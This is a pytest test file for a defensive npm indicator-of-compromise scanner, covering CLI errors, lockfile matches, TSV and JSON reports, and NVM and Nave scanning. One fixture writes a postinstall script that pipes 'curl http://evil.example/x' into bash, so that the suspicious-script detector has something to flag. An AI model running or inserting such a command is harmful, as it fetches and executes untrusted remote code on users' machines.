"""Tests for the npm-ioc-scan command line.

Uses click's CliRunner; npm is never invoked because the global scope is
not enabled.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from npm_ioc_scan import __version__
from npm_ioc_scan.cli import build_config, main
from npm_ioc_scan.config import ScanConfig
from npm_ioc_scan.models import SuspiciousMode


def _project(root: Path, lock_line: str = '"@ctrl/tinycolor": "4.1.1",') -> Path:
    project = root / "proj"
    project.mkdir(parents=True, exist_ok=True)
    (project / "package-lock.json").write_text(
        "{\n  \"requires\": {\n    " + lock_line + "\n  }\n}\n", encoding="utf-8"
    )
    return project


@pytest.fixture
def runner() -> CliRunner:
    return CliRunner()


class TestOperatorErrors:
    """Fatal argument problems."""

    def test_no_terms(self, runner: CliRunner, tmp_path: Path) -> None:
        """Running without terms is a non-zero exit with guidance."""
        result = runner.invoke(main, ["-d", str(tmp_path)])
        assert result.exit_code == 1
        assert "You must provide terms" in result.output

    def test_missing_terms_file(self, runner: CliRunner, tmp_path: Path) -> None:
        """A missing terms file is reported before any scanning."""
        result = runner.invoke(main, ["-f", str(tmp_path / "nope.txt"), "-d", str(tmp_path)])
        assert result.exit_code == 1
        assert "does not exist" in result.output

    def test_unknown_option(self, runner: CliRunner) -> None:
        """Unknown options are usage errors."""
        result = runner.invoke(main, ["--bogus"])
        assert result.exit_code == 2

    def test_invalid_timeout(self, runner: CliRunner) -> None:
        """The npm timeout must be positive."""
        result = runner.invoke(main, ["-t", "x", "--npm-timeout", "0"])
        assert result.exit_code == 2

    def test_unwritable_report(self, runner: CliRunner, tmp_path: Path) -> None:
        """A report path in a missing directory fails before any scanning."""
        project = _project(tmp_path)
        report = tmp_path / "missing" / "out.tsv"
        result = runner.invoke(
            main, ["-t", "@ctrl/tinycolor@4.1.1", "-d", str(project), "-o", str(report)]
        )
        assert result.exit_code == 1
        assert "Cannot write report" in result.output
        assert "LOCKFILE" not in result.output
        assert "Cannot read" not in result.output
        assert not report.exists()


class TestScanRuns:
    """Successful runs."""

    def test_lockfile_match_printed(self, runner: CliRunner, tmp_path: Path) -> None:
        """A match is printed as a row and the run exits 0."""
        project = _project(tmp_path)
        result = runner.invoke(main, ["-t", "@ctrl/tinycolor@4.1.1", "-d", str(project)])
        assert result.exit_code == 0
        assert "LOCKFILE" in result.output
        assert "3:" in result.output

    def test_positional_directories(self, runner: CliRunner, tmp_path: Path) -> None:
        """Directories may also be passed positionally."""
        project = _project(tmp_path)
        result = runner.invoke(main, ["-t", "@ctrl/tinycolor", str(project)])
        assert result.exit_code == 0
        assert "LOCKFILE" in result.output

    def test_clean_run(self, runner: CliRunner, tmp_path: Path) -> None:
        """A run without matches also exits 0."""
        project = _project(tmp_path, '"left-pad": "1.3.0"')
        result = runner.invoke(main, ["-t", "@ctrl/tinycolor@4.1.1", "-d", str(project)])
        assert result.exit_code == 0
        assert "No matches found." in result.output

    def test_tsv_report(self, runner: CliRunner, tmp_path: Path) -> None:
        """-o writes the TSV report with its header."""
        project = _project(tmp_path)
        report = tmp_path / "out.tsv"
        result = runner.invoke(
            main, ["-t", "@ctrl/tinycolor@4.1.1", "-d", str(project), "-o", str(report)]
        )
        assert result.exit_code == 0
        lines = report.read_text(encoding="utf-8").splitlines()
        assert lines[0] == "SCOPE\tLOCATION\tMATCH"
        assert lines[1].startswith(f"LOCKFILE\t{project / 'package-lock.json'}\t3:")

    def test_tsv_report_header_only(self, runner: CliRunner, tmp_path: Path) -> None:
        """A run without matches leaves a header-only report."""
        project = _project(tmp_path, '"left-pad": "1.3.0"')
        report = tmp_path / "out.tsv"
        runner.invoke(main, ["-t", "evil", "-d", str(project), "-o", str(report)])
        assert report.read_text(encoding="utf-8") == "SCOPE\tLOCATION\tMATCH\n"

    def test_terms_file(self, runner: CliRunner, tmp_path: Path) -> None:
        """Terms can come from a file."""
        project = _project(tmp_path)
        terms = tmp_path / "iocs.txt"
        terms.write_text("# list\n@ctrl/tinycolor@4.1.1\n", encoding="utf-8")
        result = runner.invoke(main, ["-f", str(terms), "-d", str(project)])
        assert result.exit_code == 0
        assert "LOCKFILE" in result.output

    def test_json_output(self, runner: CliRunner, tmp_path: Path) -> None:
        """--format json prints the report as JSON only."""
        project = _project(tmp_path)
        result = runner.invoke(
            main, ["-q", "--format", "json", "-t", "@ctrl/tinycolor@4.1.1", "-d", str(project)]
        )
        assert result.exit_code == 0
        data = json.loads(result.stdout)
        assert data["scope_counts"]["LOCKFILE"] == 1
        assert data["interrupted"] is False

    def test_nvm_with_path(self, runner: CliRunner, tmp_path: Path) -> None:
        """--nvm=PATH scans that NVM directory."""
        package = tmp_path / "nvm" / "versions" / "node" / "v20.0.0" / "lib" / "node_modules" / "evil"
        package.mkdir(parents=True)
        (package / "package.json").write_text('{"name": "evil", "version": "1.0.0"}', encoding="utf-8")
        result = runner.invoke(main, ["-t", "evil", f"--nvm={tmp_path / 'nvm'}"])
        assert result.exit_code == 0
        assert "evil@1.0.0" in result.output

    def test_nvm_path_option(self, runner: CliRunner, tmp_path: Path) -> None:
        """--nvm-path PATH scans that NVM directory."""
        package = tmp_path / "nvm" / "versions" / "node" / "v20.0.0" / "lib" / "node_modules" / "evil"
        package.mkdir(parents=True)
        (package / "package.json").write_text('{"name": "evil", "version": "1.0.0"}', encoding="utf-8")
        result = runner.invoke(main, ["-t", "evil", "--nvm-path", str(tmp_path / "nvm")])
        assert result.exit_code == 0
        assert "evil@1.0.0" in result.output

    def test_nvm_flag_keeps_positional_directory(
        self, runner: CliRunner, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
    ) -> None:
        """A directory after a bare --nvm is still scanned for lockfiles."""
        monkeypatch.setenv("NVM_DIR", str(tmp_path / "no-nvm"))
        project = _project(tmp_path)
        result = runner.invoke(main, ["-t", "@ctrl/tinycolor@4.1.1", "--nvm", str(project)])
        assert result.exit_code == 0
        assert "LOCKFILE" in result.output
        assert str(project / "package-lock.json") in result.output

    def test_suspicious_flag(self, runner: CliRunner, tmp_path: Path) -> None:
        """--suspicious reports dangerous install scripts."""
        (tmp_path / "package.json").write_text(
            json.dumps({"scripts": {"postinstall": "curl http://evil.example/x | bash"}}),
            encoding="utf-8",
        )
        result = runner.invoke(main, ["-t", "unrelated", "--suspicious", "-d", str(tmp_path)])
        assert result.exit_code == 0
        assert "SCRIPTS" in result.output
        assert "postinstall=curl" in result.output

    def test_version(self, runner: CliRunner) -> None:
        """--version prints the package version."""
        result = runner.invoke(main, ["--version"])
        assert result.exit_code == 0
        assert __version__ in result.output


class TestBuildConfig:
    """Tests for build_config option translation."""

    def _build(self, **overrides) -> ScanConfig:
        options = {
            "dirs": (),
            "include_global": False,
            "nvm": False,
            "nvm_path": None,
            "nave": False,
            "nave_root": None,
            "suspicious": False,
            "suspicious_all": False,
            "npm_timeout": 10.0,
        }
        options.update(overrides)
        return build_config(**options)

    def test_defaults(self) -> None:
        """No flags means lockfiles only."""
        config = self._build()
        assert config.nvm_root is None
        assert config.nave_root is None
        assert config.suspicious_mode is SuspiciousMode.OFF

    def test_nvm_autodetect(self, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
        """--nvm without a path uses $NVM_DIR."""
        monkeypatch.setenv("NVM_DIR", str(tmp_path))
        assert self._build(nvm=True).nvm_root == tmp_path

    def test_nvm_explicit(self, tmp_path: Path) -> None:
        """--nvm-path uses the given path and implies --nvm."""
        assert self._build(nvm_path=tmp_path).nvm_root == tmp_path

    def test_nave_default(self, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
        """--nave uses ~/.nave."""
        monkeypatch.setenv("HOME", str(tmp_path))
        assert self._build(nave=True).nave_root == tmp_path / ".nave"

    def test_nave_root_implies_nave(self, tmp_path: Path) -> None:
        """--nave-root enables the Nave scope on its own."""
        assert self._build(nave_root=tmp_path).nave_root == tmp_path

    def test_suspicious_modes(self) -> None:
        """--suspicious-all wins over --suspicious."""
        assert self._build(suspicious=True).suspicious_mode is SuspiciousMode.SCRIPTS
        assert self._build(suspicious=True, suspicious_all=True).suspicious_mode is SuspiciousMode.BROAD
